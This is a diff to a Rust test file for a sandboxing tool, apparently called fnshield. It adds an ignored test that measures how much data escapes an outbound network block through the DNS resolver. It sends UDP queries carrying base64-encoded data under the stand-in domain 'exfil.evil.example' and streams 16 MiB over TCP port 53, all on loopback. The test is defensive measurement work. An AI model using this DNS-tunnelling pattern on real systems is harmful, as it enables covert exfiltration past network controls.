@@ -47,7 +47,13 @@ fn run(name: &str, which: &str, body: fn()) -> Ran {
         std::process::exit(0);
     }
     let mut child = Command::new(std::env::current_exe().unwrap())
-        .args([full.as_str(), "--exact", "--nocapture", "--test-threads=1"])
+        .args([
+            full.as_str(),
+            "--exact",
+            "--nocapture",
+            "--include-ignored",
+            "--test-threads=1",
+        ])
         .env("FNSHIELD_CASE", &full)
         .env("FNSHIELD_IC", which)
         .env_remove("SHIELD_MODE")
@@ -1300,3 +1306,97 @@ macro_rules! k9 {
 k9!(k9_exit_without_flush, 0);
 k9!(k9_sigkill_after_violation, 1);
 k9!(k9_other_thread_then_exit, 2);
+
+// ---------------------------------------------------------------------------------------------
+// Residual figures for the README (not assertions): how much leaves through the always-
+// reachable resolver under outbound block, over a connected UDP socket (as glibc sends) and a
+// TCP stream to port 53. Run with:
+//   cargo test -p fnshield --test attack_net residual_dns_channel -- --ignored --nocapture
+// ---------------------------------------------------------------------------------------------
+
+fn residual_dns_channel() {
+    use std::io::{Read, Write};
+    let rip = per_ic("127.0.0.160", "127.0.0.161");
+    let resolver = bind53(rip);
+    let tcp = TcpListener::bind(format!("{rip}:53")).unwrap();
+    let _s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
+    // UDP: a connected socket sends queries whose names carry 40 bytes each, for one second.
+    let counter = std::thread::spawn(move || {
+        resolver
+            .set_read_timeout(Some(Duration::from_millis(500)))
+            .unwrap();
+        let mut b = [0u8; 512];
+        let mut n = 0u64;
+        while resolver.recv(&mut b).is_ok() {
+            n += 1;
+        }
+        n
+    });
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    sock.connect(format!("{rip}:53")).unwrap();
+    let q = dns_query("aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ.exfil.evil.example");
+    let t0 = Instant::now();
+    let mut sent = 0u64;
+    while t0.elapsed() < Duration::from_secs(1) {
+        if sock.send(&q).is_ok() {
+            sent += 1;
+        }
+    }
+    let got = counter.join().unwrap();
+    // And with an explicit address: refused.
+    let refused = sock.send_to(&q, format!("{rip}:53")).is_err();
+    // TCP: 16 MiB in 64 KiB writes to port 53.
+    let reader = std::thread::spawn(move || {
+        let (mut c, _) = tcp.accept().unwrap();
+        let mut b = vec![0u8; 1 << 16];
+        let mut total = 0u64;
+        while let Ok(n) = c.read(&mut b) {
+            if n == 0 {
+                break;
+            }
+            total += n as u64;
+        }
+        total
+    });
+    let mut c = std::net::TcpStream::connect(format!("{rip}:53")).unwrap();
+    let chunk = vec![0x41u8; 1 << 16];
+    let t1 = Instant::now();
+    for _ in 0..256 {
+        c.write_all(&chunk).unwrap();
+    }
+    drop(c);
+    let total = reader.join().unwrap();
+    let secs = t1.elapsed().as_secs_f64();
+    println!(
+        "FIGURES interceptor={:?} udp_connected_queries_sent_per_s={sent} received={got} \
+         name_bytes_per_query=40 explicit_address_refused={refused} tcp53_bytes={total} \
+         tcp53_mib_per_s={:.0}",
+        ic(),
+        total as f64 / secs / 1048576.0
+    );
+}
+
+mod residual_dns_channel {
+    #[test]
+    #[ignore = "prints the README's residual figures; not an assertion"]
+    fn trap() {
+        let out = super::case("residual_dns_channel", "trap", super::residual_dns_channel);
+        println!(
+            "{}",
+            out.lines().find(|l| l.contains("FIGURES")).unwrap_or("")
+        );
+    }
+    #[test]
+    #[ignore = "prints the README's residual figures; not an assertion"]
+    fn notify() {
+        let out = super::case(
+            "residual_dns_channel",
+            "notify",
+            super::residual_dns_channel,
+        );
+        println!(
+            "{}",
+            out.lines().find(|l| l.contains("FIGURES")).unwrap_or("")
+        );
+    }
+}
